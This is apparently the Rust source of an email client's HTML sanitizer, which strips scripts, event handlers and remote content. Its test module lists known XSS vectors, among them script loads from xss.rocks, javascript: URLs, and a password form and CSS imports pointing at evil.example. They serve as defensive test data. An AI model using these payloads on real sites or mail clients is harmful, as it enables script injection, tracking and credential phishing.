//! Safe HTML: a message's HTML body made fit to show.
//!
//! Sanitizing is done by [ammonia], chosen because it parses with html5ever
//! (the spec-compliant HTML5 parser of the Servo project), so it sees the
//! document exactly as a browser would rather than guessing with patterns;
//! because it is a whitelist (what is not named is removed); because it
//! guards against the namespace-confusion tricks of `<svg>` and `<math>`;
//! and because it is maintained, with published security advisories.
//!
//! What survives: formatting and structure, tables with their layout
//! attributes, images, links, `style` attributes and `<style>` elements
//! (mail is laid out with them). What does not: scripts, event handlers,
//! forms and their controls, frames, objects, embeds, `<base>`, `<meta>`,
//! `<link>`, SVG and MathML, comments.
//!
//! Nothing is fetched unless the caller asks: remote images (`src`,
//! `srcset`, `background`) and anything CSS would fetch (`url()`,
//! `@import`, `image-set()`) are removed and counted, and a blocked image
//! keeps a `data-candor-blocked` attribute so the view can show a
//! placeholder. `cid:` references become `data:` URLs of the message's own
//! image parts. `expression()` and `javascript:` never survive. Links keep
//! only http, https and mailto targets, written out in full so the view can
//! show where a link really goes.
//!
//! The result is a fragment for a sandboxed frame with its own Content
//! Security Policy; this module is the first of those defences, not the only
//! one.

use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::sync::Arc;
use std::sync::atomic::{AtomicU32, Ordering};

use ammonia::Url;
use ammonia::url::ParseError;
use base64::Engine as _;

/// The attribute a blocked remote image carries instead of its `src`.
pub const BLOCKED_MARKER: &str = "data-candor-blocked";

/// How to sanitize one message.
#[derive(Debug, Clone, Default)]
pub struct Options {
    /// Let remote images and stylesheets load (the user asked, for this
    /// message or for its sender).
    pub load_remote: bool,
    /// The message's own images, for `cid:` references.
    pub inline_images: InlineImages,
}

/// A message's image parts by Content-ID, as `data:` URLs.
#[derive(Debug, Clone, Default)]
pub struct InlineImages {
    by_id: Arc<HashMap<String, String>>,
}

impl InlineImages {
    pub fn new() -> Self {
        Self::default()
    }

    /// Adds a part under its Content-ID (angle brackets optional). Only
    /// images are kept: returns false, keeping nothing, for any other type.
    pub fn insert(&mut self, content_id: &str, content_type: &str, data: &[u8]) -> bool {
        let content_id = content_id
            .trim()
            .trim_start_matches('<')
            .trim_end_matches('>')
            .trim();
        let content_type = content_type.trim().to_ascii_lowercase();
        let is_image = content_type.strip_prefix("image/").is_some_and(|subtype| {
            !subtype.is_empty()
                && subtype
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b"!#$&^_.+-".contains(&b))
        });
        if content_id.is_empty() || !is_image {
            return false;
        }
        let url = format!(
            "data:{content_type};base64,{}",
            base64::engine::general_purpose::STANDARD.encode(data)
        );
        Arc::make_mut(&mut self.by_id).insert(content_id.to_owned(), url);
        true
    }

    pub fn len(&self) -> usize {
        self.by_id.len()
    }

    pub fn is_empty(&self) -> bool {
        self.by_id.is_empty()
    }

    /// The `data:` URL for what follows `cid:` in a reference (RFC 2392:
    /// percent-encoded). Content-IDs are matched exactly, then ignoring
    /// ASCII case, as mail clients do.
    pub fn resolve(&self, reference: &str) -> Option<&str> {
        let decoded = percent_decode(reference);
        let id = decoded
            .trim()
            .trim_start_matches('<')
            .trim_end_matches('>')
            .trim();
        self.by_id
            .get(id)
            .or_else(|| {
                self.by_id
                    .iter()
                    .find(|(k, _)| k.eq_ignore_ascii_case(id))
                    .map(|(_, v)| v)
            })
            .map(String::as_str)
    }
}

/// The sanitized fragment and how much remote content was kept out of it.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Sanitized {
    pub html: String,
    /// Remote images, CSS `url()`s and `@import`s, `background` and
    /// `srcset` attributes removed because remote content was not allowed.
    pub remote_blocked: u32,
}

/// Sanitizes a message's HTML for display (see the module documentation).
pub fn sanitize(html: &str, options: &Options) -> Sanitized {
    let policy = Arc::new(Policy {
        load_remote: options.load_remote,
        images: options.inline_images.clone(),
        markers: true,
        tags: TAGS.iter().copied().collect(),
        blocked: AtomicU32::new(0),
    });
    let cleaned = builder(&policy, true).clean(html).to_string();
    if let Some((html, in_styles)) = finish(&cleaned, &policy) {
        return Sanitized {
            html,
            remote_blocked: policy.blocked.load(Ordering::Relaxed) + in_styles,
        };
    }
    // The serializer's output is regular, so `finish` cannot fail; should it
    // ever, fall back to a result that needs no second pass: no <style>
    // elements, and blocked images dropped rather than marked.
    let policy = Arc::new(Policy {
        markers: false,
        blocked: AtomicU32::new(0),
        ..Policy::clone_settings(&policy)
    });
    let html = builder(&policy, false).clean(html).to_string();
    Sanitized {
        html,
        remote_blocked: policy.blocked.load(Ordering::Relaxed),
    }
}

/// Elements kept (with their content, less what is filtered out of it).
const TAGS: &[&str] = &[
    "a",
    "abbr",
    "acronym",
    "address",
    "article",
    "aside",
    "b",
    "bdi",
    "bdo",
    "big",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "font",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hgroup",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "main",
    "mark",
    "nav",
    "ol",
    "p",
    "pre",
    "q",
    "rp",
    "rt",
    "rtc",
    "ruby",
    "s",
    "samp",
    "section",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
    "wbr",
];

/// Elements removed together with everything inside them. Any other element
/// not in [`TAGS`] is removed but its content kept (the text of a `<form>`,
/// say).
const CLEAN_CONTENT_TAGS: &[&str] = &[
    "applet",
    "audio",
    "button",
    "canvas",
    "datalist",
    "embed",
    "fencedframe",
    "frame",
    "frameset",
    "head",
    "iframe",
    "math",
    "noembed",
    "noframes",
    "noscript",
    "object",
    "portal",
    "script",
    "select",
    "svg",
    "template",
    "textarea",
    "title",
    "video",
];

/// Attributes kept on any kept element (subject to [`Policy::attribute`]).
const GENERIC_ATTRIBUTES: &[&str] = &[
    "align",
    "background",
    "bgcolor",
    "class",
    "dir",
    "height",
    "id",
    "lang",
    "style",
    "title",
    "valign",
    "width",
];

/// Attributes kept on particular elements.
const TAG_ATTRIBUTES: &[(&str, &[&str])] = &[
    ("a", &["href", "hreflang"]),
    ("col", &["span"]),
    ("colgroup", &["span"]),
    ("del", &["datetime"]),
    ("details", &["open"]),
    ("font", &["color", "face", "size"]),
    ("hr", &["color", "noshade", "size"]),
    (
        "img",
        &["alt", "border", "hspace", "src", "srcset", "vspace"],
    ),
    ("ins", &["datetime"]),
    ("li", &["type", "value"]),
    ("ol", &["reversed", "start", "type"]),
    (
        "table",
        &[
            "border",
            "cellpadding",
            "cellspacing",
            "frame",
            "rules",
            "summary",
        ],
    ),
    ("td", &["colspan", "headers", "nowrap", "rowspan"]),
    (
        "th",
        &["abbr", "colspan", "headers", "nowrap", "rowspan", "scope"],
    ),
    ("time", &["datetime"]),
    ("ul", &["type"]),
];

/// What the attribute filter, which ammonia requires to be `'static`, needs
/// to know and to count.
#[derive(Debug)]
struct Policy {
    load_remote: bool,
    images: InlineImages,
    /// Leave blocked images in place with [`BLOCKED_MARKER`] (which
    /// [`finish`] puts in) rather than dropping them.
    markers: bool,
    tags: HashSet<&'static str>,
    blocked: AtomicU32,
}

impl Policy {
    fn clone_settings(&self) -> Self {
        Self {
            load_remote: self.load_remote,
            images: self.images.clone(),
            markers: self.markers,
            tags: self.tags.clone(),
            blocked: AtomicU32::new(0),
        }
    }

    fn count(&self, n: u32) {
        self.blocked.fetch_add(n, Ordering::Relaxed);
    }

    /// The value an attribute keeps, or None to drop it. ammonia has
    /// already dropped attributes not whitelisted for the element, and
    /// `href`/`src` values whose scheme is not in the builder's list.
    fn attribute<'u>(
        &self,
        element: &str,
        attribute: &str,
        value: &'u str,
    ) -> Option<Cow<'u, str>> {
        // ammonia also filters the attributes of elements it then removes:
        // they need no work, and must not count as blocked content.
        if !self.tags.contains(element) {
            return None;
        }
        match attribute {
            "href" => link_target(value).map(Cow::Owned),
            "src" => match image_target(value, &self.images) {
                Target::Local(url) => Some(Cow::Owned(url)),
                Target::Remote(url) if self.load_remote => Some(Cow::Owned(url)),
                Target::Remote(_) => {
                    self.count(1);
                    self.markers.then_some(Cow::Borrowed(BLOCKED_SRC))
                }
                Target::Unusable => None,
            },
            "background" => match image_target(value, &self.images) {
                Target::Local(url) => Some(Cow::Owned(url)),
                Target::Remote(url) if self.load_remote => Some(Cow::Owned(url)),
                Target::Remote(_) => {
                    self.count(1);
                    None
                }
                Target::Unusable => None,
            },
            "srcset" => self.srcset(value).map(Cow::Owned),
            "style" => {
                let (css, blocked) = css::filter(value, self);
                self.count(blocked);
                (!css.trim().is_empty()).then_some(Cow::Owned(css))
            }
            _ => Some(Cow::Borrowed(value)),
        }
    }

    /// Remote candidates only when remote content may load (`src` is the
    /// fallback every client honours); counted once when they may not.
    fn srcset(&self, value: &str) -> Option<String> {
        let mut kept = Vec::new();
        let mut remote = false;
        for candidate in value.split(',').map(str::trim).filter(|c| !c.is_empty()) {
            let (url, descriptor) = candidate
                .split_once(char::is_whitespace)
                .unwrap_or((candidate, ""));
            if let Target::Remote(url) = image_target(url, &self.images) {
                remote = true;
                let descriptor = descriptor.trim();
                let descriptor_is_plain = descriptor
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'.');
                if descriptor_is_plain {
                    kept.push(format!("{url} {descriptor}").trim_end().to_owned());
                }
            }
        }
        if !self.load_remote {
            if remote {
                self.count(1);
            }
            return None;
        }
        (!kept.is_empty()).then(|| kept.join(", "))
    }
}

/// What a blocked image's `src` becomes between ammonia and [`finish`]: an
/// absolute URL of a scheme no input can carry through the filter.
const BLOCKED_SRC: &str = "candor-blocked:remote";

fn builder(policy: &Arc<Policy>, keep_style: bool) -> ammonia::Builder<'static> {
    let mut tags: HashSet<&'static str> = TAGS.iter().copied().collect();
    let mut clean_content: HashSet<&'static str> = CLEAN_CONTENT_TAGS.iter().copied().collect();
    if keep_style {
        tags.insert("style");
    } else {
        clean_content.insert("style");
    }
    let tag_attributes: HashMap<&'static str, HashSet<&'static str>> = TAG_ATTRIBUTES
        .iter()
        .map(|(tag, attributes)| (*tag, attributes.iter().copied().collect()))
        .collect();
    let policy = Arc::clone(policy);
    let mut builder = ammonia::Builder::empty();
    builder
        .tags(tags)
        .clean_content_tags(clean_content)
        .generic_attributes(GENERIC_ATTRIBUTES.iter().copied().collect())
        .tag_attributes(tag_attributes)
        // A first cut: `cid` and `data` pass here only so that the filter
        // can resolve or check them; links get http, https and mailto alone.
        .url_schemes(
            ["http", "https", "mailto", "cid", "data"]
                .into_iter()
                .collect(),
        )
        // Relative URLs reach the filter, which keeps none but `//host/...`.
        .url_relative(ammonia::UrlRelative::PassThrough)
        .link_rel(Some("noopener noreferrer"))
        .strip_comments(true)
        .attribute_filter(move |element, attribute, value| {
            policy.attribute(element, attribute, value)
        });
    builder
}

/// The second pass, over ammonia's serialized output: filters the text of
/// `<style>` elements (ammonia has no hook for element text) and turns the
/// `src` of blocked images into [`BLOCKED_MARKER`]. Returns the HTML and the
/// remote content blocked in style elements, or None if the input is not
/// what html5ever's serializer writes.
///
/// That output is regular: outside raw-text elements every `<` in text is
/// escaped, comments are stripped, attribute values are always
/// double-quoted with `"` escaped, and the only raw-text element kept is
/// `<style>`, whose text cannot contain `</style>` (the parser ended the
/// element there). So the first `</style>` after a `<style>` tag is its end.
fn finish(serialized: &str, policy: &Policy) -> Option<(String, u32)> {
    const BLOCKED_SRC_ATTRIBUTE: &str = " src=\"candor-blocked:remote\"";
    let marker = format!(" {BLOCKED_MARKER}=\"\"");
    let mut out = String::with_capacity(serialized.len() + 64);
    let mut blocked = 0;
    let mut rest = serialized;
    while let Some(lt) = rest.find('<') {
        out.push_str(&rest[..lt]);
        rest = &rest[lt..];
        let (tag, after) = rest.split_at(tag_end(rest)? + 1);
        rest = after;
        if tag.starts_with("</") || tag.starts_with("<!") {
            out.push_str(tag);
            continue;
        }
        let name_len = tag[1..].find([' ', '>', '/'])?;
        match &tag[1..=name_len] {
            "img" => out.push_str(&tag.replacen(BLOCKED_SRC_ATTRIBUTE, &marker, 1)),
            "style" => {
                out.push_str(tag);
                let close = rest.find("</style>")?;
                let (css, in_style) = css::filter(&rest[..close], policy);
                blocked += in_style;
                // Filtering only removes or writes escaped URLs, so this
                // cannot happen; if it did, the sheet would end early.
                if !css.to_ascii_lowercase().contains("</style") {
                    out.push_str(&css);
                }
                rest = &rest[close..];
            }
            _ => out.push_str(tag),
        }
    }
    out.push_str(rest);
    Some((out, blocked))
}

/// The index of the `>` that ends the tag `s` starts with.
fn tag_end(s: &str) -> Option<usize> {
    let mut quoted = false;
    for (i, b) in s.bytes().enumerate().skip(1) {
        match b {
            b'"' => quoted = !quoted,
            b'>' if !quoted => return Some(i),
            _ => {}
        }
    }
    None
}

/// Where an image URL points.
#[derive(Debug, PartialEq, Eq)]
enum Target {
    /// On the network (normalized, absolute).
    Remote(String),
    /// In the message: a resolved `cid:` or a `data:image/...`.
    Local(String),
    /// Anything else: relative, another scheme, an unknown Content-ID.
    Unusable,
}

fn image_target(raw: &str, images: &InlineImages) -> Target {
    let value = raw.trim_matches(|c: char| c.is_ascii_whitespace() || c.is_control());
    match Url::parse(value) {
        Ok(url) => match url.scheme() {
            "http" | "https" => Target::Remote(url.into()),
            "cid" => images
                .resolve(url.path())
                .map_or(Target::Unusable, |data| Target::Local(data.to_owned())),
            "data" if url.path().to_ascii_lowercase().starts_with("image/") => {
                Target::Local(url.into())
            }
            _ => Target::Unusable,
        },
        // `//host/image.png` takes the scheme of the page: remote all the same.
        Err(ParseError::RelativeUrlWithoutBase)
            if ["//", "\\\\", "/\\", "\\/"]
                .iter()
                .any(|prefix| value.starts_with(prefix)) =>
        {
            Url::parse(&format!("https:{value}"))
                .ok()
                .filter(|url| url.host().is_some())
                .map_or(Target::Unusable, |url| Target::Remote(url.into()))
        }
        Err(_) => Target::Unusable,
    }
}

/// A link's target if it may be followed: http, https and mailto only,
/// normalized (an internationalized host shows as the punycode the browser
/// would really visit).
fn link_target(raw: &str) -> Option<String> {
    let url = Url::parse(raw.trim()).ok()?;
    matches!(url.scheme(), "http" | "https" | "mailto").then(|| url.into())
}

/// RFC 3986 percent-decoding, lossy for invalid UTF-8.
fn percent_decode(s: &str) -> Cow<'_, str> {
    if !s.contains('%') {
        return Cow::Borrowed(s);
    }
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        let hex = |b: u8| char::from(b).to_digit(16);
        match (bytes[i], bytes.get(i + 1), bytes.get(i + 2)) {
            (b'%', Some(&h), Some(&l)) if hex(h).is_some() && hex(l).is_some() => {
                let value = hex(h).unwrap_or(0) * 16 + hex(l).unwrap_or(0);
                out.push(u8::try_from(value).unwrap_or(b'?'));
                i += 3;
            }
            (b, _, _) => {
                out.push(b);
                i += 1;
            }
        }
    }
    Cow::Owned(String::from_utf8_lossy(&out).into_owned())
}

/// CSS filtering, over the tokens of the CSS Syntax specification as
/// cssparser (the tokenizer of Servo and Firefox, and ammonia's own) reads
/// them, so escapes such as `u\72l(` or `@\69mport` are seen for what they
/// are. What is kept is copied from the source verbatim; what is removed is
/// replaced by ` none ` (spaces, so no two neighbours can merge into a new
/// token).
mod css {
    use cssparser::{ParseError, Parser, SourcePosition, Token};

    use super::{Policy, Target, image_target};

    const NONE: &str = " none ";
    /// Deeper blocks are dropped: no real style sheet nests this far, and it
    /// bounds the recursion.
    const MAX_DEPTH: usize = 32;
    /// Functions whose string arguments are image URLs.
    const IMAGE_FUNCTIONS: &[&str] = &["image-set", "-webkit-image-set", "image", "cross-fade"];

    /// Filters a style sheet or a `style` attribute's declarations; returns
    /// the CSS and how many remote references were removed.
    pub(super) fn filter(css: &str, policy: &Policy) -> (String, u32) {
        let mut parser = Parser::new(css);
        let mut filter = Filter { policy, blocked: 0 };
        let mut out = String::with_capacity(css.len());
        filter.block(&mut parser, &mut out, 0, false);
        (out, filter.blocked)
    }

    struct Filter<'p> {
        policy: &'p Policy,
        blocked: u32,
    }

    impl Filter<'_> {
        fn block(
            &mut self,
            p: &mut Parser<'_>,
            out: &mut String,
            depth: usize,
            strings_are_urls: bool,
        ) {
            loop {
                let start = p.position();
                let token = match p.next_including_whitespace_and_comments() {
                    Ok(token) => token.clone(),
                    Err(_) => return,
                };
                match &token {
                    Token::UnquotedUrl(url) => self.url(url, out),
                    Token::QuotedString(url) if strings_are_urls => self.url(url, out),
                    Token::BadUrl(_) => out.push_str(NONE),
                    Token::Function(name) if is_url_function(name) => match url_argument(p) {
                        Some(url) => self.url(&url, out),
                        None => out.push_str(NONE),
                    },
                    Token::Function(name)
                        if name.eq_ignore_ascii_case("expression") || names_script(name) =>
                    {
                        skip_block(p);
                        out.push_str(NONE);
                    }
                    Token::Function(name) => {
                        let urls = IMAGE_FUNCTIONS.iter().any(|f| name.eq_ignore_ascii_case(f));
                        self.nested(p, start, out, depth, urls);
                    }
                    Token::ParenthesisBlock
                    | Token::SquareBracketBlock
                    | Token::CurlyBracketBlock => self.nested(p, start, out, depth, false),
                    Token::AtKeyword(name) if name.eq_ignore_ascii_case("import") => {
                        self.import(p, out);
                    }
                    // Properties that bind behaviour (old IE and Firefox).
                    Token::Ident(name)
                        if name.eq_ignore_ascii_case("behavior")
                            || name.eq_ignore_ascii_case("-moz-binding") =>
                    {
                        out.push_str(NONE);
                    }
                    token if carries_script(token) => out.push_str(NONE),
                    _ => out.push_str(p.slice_from(start)),
                }
            }
        }

        /// A block whose opening token was just read: its opening, its
        /// filtered content and its closing (absent at the end of input).
        fn nested(
            &mut self,
            p: &mut Parser<'_>,
            start: SourcePosition,
            out: &mut String,
            depth: usize,
            strings_are_urls: bool,
        ) {
            if depth >= MAX_DEPTH {
                skip_block(p);
                out.push_str(NONE);
                return;
            }
            let open = p.slice_from(start);
            let mut inner = String::new();
            let blocked_before = self.blocked;
            let end = p.parse_nested_block(|p| {
                self.block(p, &mut inner, depth + 1, strings_are_urls);
                Ok::<_, ParseError<()>>(p.position())
            });
            match end {
                // An image-set() that lost a remote image goes as a whole
                // rather than stay as a husk.
                Ok(_) if strings_are_urls && self.blocked > blocked_before => {
                    out.push_str(NONE);
                }
                Ok(end) => {
                    out.push_str(open);
                    out.push_str(&inner);
                    out.push_str(p.slice_from(end));
                }
                Err(_) => out.push_str(NONE),
            }
        }

        /// `@import`, read to its `;`: kept, rewritten, only for a remote
        /// sheet that may load.
        fn import(&mut self, p: &mut Parser<'_>, out: &mut String) {
            let mut target = None;
            while let Ok(token) = p.next_including_whitespace_and_comments() {
                match token.clone() {
                    Token::Semicolon => break,
                    Token::CurlyBracketBlock => {
                        skip_block(p);
                        break;
                    }
                    Token::QuotedString(url) | Token::UnquotedUrl(url) if target.is_none() => {
                        target = Some(url.to_string());
                    }
                    Token::Function(name) if target.is_none() && is_url_function(&name) => {
                        target = url_argument(p);
                    }
                    Token::Function(_) | Token::ParenthesisBlock | Token::SquareBracketBlock => {
                        skip_block(p);
                    }
                    _ => {}
                }
            }
            let target = target.map(|url| image_target(&url, &super::InlineImages::default()));
            match target {
                Some(Target::Remote(url)) if self.policy.load_remote => {
                    out.push_str("@import");
                    write_url(out, &url);
                    out.push(';');
                }
                Some(Target::Remote(_)) => self.blocked += 1,
                _ => {}
            }
        }

        fn url(&mut self, raw: &str, out: &mut String) {
            match image_target(raw, &self.policy.images) {
                Target::Local(url) => write_url(out, &url),
                Target::Remote(url) if self.policy.load_remote => write_url(out, &url),
                Target::Remote(_) => {
                    self.blocked += 1;
                    out.push_str(NONE);
                }
                Target::Unusable => out.push_str(NONE),
            }
        }
    }

    /// Consumes the block whose opening token was just read. (Leaving it to
    /// the next `next` would skip it too, but the source slice of the token
    /// after would then include it.)
    fn skip_block(p: &mut Parser<'_>) {
        let _ = p.parse_nested_block(|p| {
            while p.next_including_whitespace_and_comments().is_ok() {}
            Ok::<_, ParseError<()>>(())
        });
    }

    fn is_url_function(name: &str) -> bool {
        name.eq_ignore_ascii_case("url") || name.eq_ignore_ascii_case("src")
    }

    /// The string inside `url("...")` or `src("...")` (modifiers ignored).
    fn url_argument(p: &mut Parser<'_>) -> Option<String> {
        p.parse_nested_block(|p| {
            let mut url = None;
            while let Ok(token) = p.next() {
                if let (None, Token::QuotedString(s)) = (&url, token) {
                    url = Some(s.to_string());
                }
            }
            Ok::<_, ParseError<()>>(url)
        })
        .ok()
        .flatten()
    }

    /// ` url("...") `, escaped so that no quote, backslash, angle bracket
    /// or control character appears in it (nothing can end the string, or
    /// the `<style>` element around it).
    fn write_url(out: &mut String, url: &str) {
        out.push_str(" url(\"");
        for c in url.chars() {
            if matches!(c, '"' | '\\' | '<' | '>') || c.is_control() {
                out.push_str(&format!("\\{:x} ", u32::from(c)));
            } else {
                out.push(c);
            }
        }
        out.push_str("\") ");
    }

    fn carries_script(token: &Token<'_>) -> bool {
        match token {
            Token::Ident(v)
            | Token::QuotedString(v)
            | Token::BadString(v)
            | Token::Hash(v)
            | Token::IDHash(v)
            | Token::AtKeyword(v) => names_script(v),
            Token::Dimension { unit, .. } => names_script(unit),
            _ => false,
        }
    }

    /// Whether a value names a script URL, however spaced or cased.
    pub(super) fn names_script(value: &str) -> bool {
        let folded: String = value
            .chars()
            .filter(|c| !c.is_whitespace() && !c.is_control())
            .flat_map(char::to_lowercase)
            .collect();
        folded.contains("javascript:") || folded.contains("vbscript:")
    }
}

#[cfg(test)]
mod tests {
    use std::cell::{Ref, RefCell};

    use html5ever::tendril::{StrTendril, TendrilSink};
    use html5ever::tree_builder::{ElementFlags, NodeOrText, QuirksMode, TreeSink};
    use html5ever::{Attribute, QualName, ns};

    use super::*;

    /// Known XSS vectors, most from the OWASP XSS Filter Evasion Cheat
    /// Sheet, the rest from published sanitizer bypasses (mutation XSS
    /// through SVG/MathML namespace confusion, noscript and comments).
    const XSS_VECTORS: &[&str] = &[
        // Script elements, in odd case and odd syntax.
        "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
        "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
        "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
        "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
        "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
        "<xss onafterscriptexecute=alert(1)><script>1</script>",
        // Event handlers.
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
        "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
        "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
        "<svg/onload=alert('XSS')>",
        "<svg onload=alert(1)>",
        "<BODY ONLOAD=alert('XSS')>",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
        "<details open ontoggle=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)><option>x</select>",
        "<keygen autofocus onfocus=alert(1)>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<audio src=x onerror=alert(1)>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<isindex action=javascript:alert(1) type=image>",
        "<p style=\"behavior:url(#default#time2)\" onbegin=alert(1)>x</p>",
        // Script URLs, plain, cased, encoded, split by whitespace and NUL.
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
        "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
        "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
        "<IMG DYNSRC=\"javascript:alert('XSS')\">",
        "<IMG LOWSRC=\"javascript:alert('XSS')\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
        "<a href=\"  javascript:alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\"javas\0cript:alert(1)\">x</a>",
        "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<img src=\"data:text/html,<script>alert(1)</script>\">",
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
        "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
        "<BR SIZE=\"&{alert('XSS')}\">",
        "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
        "<BGSOUND SRC=\"javascript:alert('XSS');\">",
        // Frames, objects, embeds, forms.
        "<iframe src=http://xss.rocks/scriptlet.html <",
        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
        "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
        "<form action=\"javascript:alert(1)\"><input type=submit><button formaction=javascript:alert(1)>go</button></form>",
        "<form action=\"https://evil.example/phish\"><input name=password type=password></form>",
        // Document-level elements.
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:alert('XSS');\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
        "<BASE HREF=\"javascript:alert('XSS');//\">",
        "<base href=\"https://evil.example/\"><a href=\"/x\">x</a>",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        // CSS.
        "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
        "<style>@import url(//evil.example/x.css);</style>",
        "<style>@\\69mport 'http://evil.example/x.css';</style>",
        "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
        "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
        "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS')\")}</STYLE>",
        "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
        "<style>*{background:url(\"http://evil.example/track\")}</style>",
        "<style>@font-face{font-family:x;src:url(http://evil.example/f.woff)}</style>",
        "<style>a{background:image-set(\"http://evil.example/a.png\" 1x)}</style>",
        "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
        "exp/*<A STYLE='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression(alert(\"XSS\"))'>",
        "<XSS STYLE=\"behavior: url(xss.htc);\">",
        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
